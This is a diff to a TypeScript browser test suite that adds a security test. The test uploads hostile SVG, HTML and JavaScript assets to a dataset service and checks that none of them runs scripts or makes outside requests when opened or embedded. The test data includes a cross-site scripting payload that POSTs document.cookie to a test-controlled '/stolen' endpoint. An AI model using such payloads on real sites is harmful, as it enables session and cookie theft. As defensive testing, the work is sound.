@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import { createServer, type IncomingMessage, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -7,7 +8,7 @@ import { findChromium, NO_CHROMIUM } from '../../../../tools/browser/find-chromi
 import { report, tally } from './report.ts';
 import type { ServiceProcess } from './run-service.ts';
 import { type OwnService, startService } from './start-service.ts';
-import { ask, listDatasets } from './stored-datasets.ts';
+import { ask, listDatasets, uploadLines } from './stored-datasets.ts';
 
 const AREA = 'Security review';
 const found = await findChromium();
@@ -299,5 +300,67 @@ describe('a foreign page in a browser', { timeout: 120_000 }, () => {
       observed: { 'as expected': 1 },
     });
     await page.close();
+  });
+
+  it('hostile images, pages and documents of a dataset run nothing and ask for nothing', async (context) => {
+    const script = `fetch('${unprotectedUrl}/stolen', { method: 'POST', mode: 'no-cors', body: document.cookie }); document.title = 'taken'; top.document.title = 'taken';`;
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script><image href="${unprotectedUrl}/image"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${unprotectedUrl}/frame"/></foreignObject><text y="20">drawn</text></svg>`;
+    const html = `<!doctype html><title>page</title><script>${script}</script><img src="${unprotectedUrl}/image">`;
+    const hostile: readonly (readonly [mimeType: string, content: string])[] = [
+      ['image/svg+xml', svg],
+      ['IMAGE/SVG+XML; charset=utf-8', ` ${svg}`],
+      ['text/plain', html],
+      ['image/png', `  ${html}`],
+      ['text/html', ` ${html}`],
+      ['application/xhtml+xml', `   ${html}`],
+      ['text/javascript', script],
+      ['application/octet-stream', `    ${html}`],
+    ];
+    const assets = hostile.map(([mime_type, content]) => {
+      return { mime_type, encoding: 'base64', data: Buffer.from(content).toString('base64') };
+    });
+    const id = await uploadLines(service.url, [JSON.stringify({ inputs: { prompt: 'p' }, assets })]);
+    const sent = unprotected.length;
+    const outcomes: string[] = [];
+    for (const [mimeType, content] of hostile) {
+      const sha256 = createHash('sha256').update(content).digest('hex');
+      const url = `${service.url}/datasets/${id}/assets/${sha256}`;
+      const page = await openPage(`${service.url}/healthz`);
+      const asked: string[] = [];
+      // A request that the policy blocks is reported too, but has no response.
+      page.on('response', (response) => asked.push(response.url()));
+      // Embedded in a page of the service, and opened by itself.
+      await embed(page, 'img', url);
+      await embed(page, 'script', url);
+      const download = page.waitForEvent('download').then(
+        () => 'download',
+        () => 'shown',
+      );
+      const opened = page.goto(url).then(
+        () => 'shown',
+        () => download,
+      );
+      outcomes.push(`${await opened} ${mimeType.split(';')[0]?.toLowerCase()}`);
+      expect(await page.title()).not.toBe('taken');
+      expect(asked.filter((one) => !one.startsWith(service.url))).toEqual([]);
+      await page.close();
+    }
+    expect(unprotected.slice(sent)).toEqual([]);
+    expect(tally(outcomes)).toEqual({
+      'shown image/svg+xml': 2,
+      'shown text/plain': 1,
+      'shown image/png': 1,
+      'download text/html': 1,
+      'download application/xhtml+xml': 1,
+      'download text/javascript': 1,
+      'download application/octet-stream': 1,
+    });
+    report(context, {
+      area: AREA,
+      scenario: 'hostile SVG, HTML and scripts as assets of a dataset, opened and embedded in a browser',
+      expected: 'no script runs, nothing is requested; what is not safe to show is a download',
+      runs: outcomes.length,
+      observed: { 'nothing ran or was requested': outcomes.length },
+    });
   });
 });
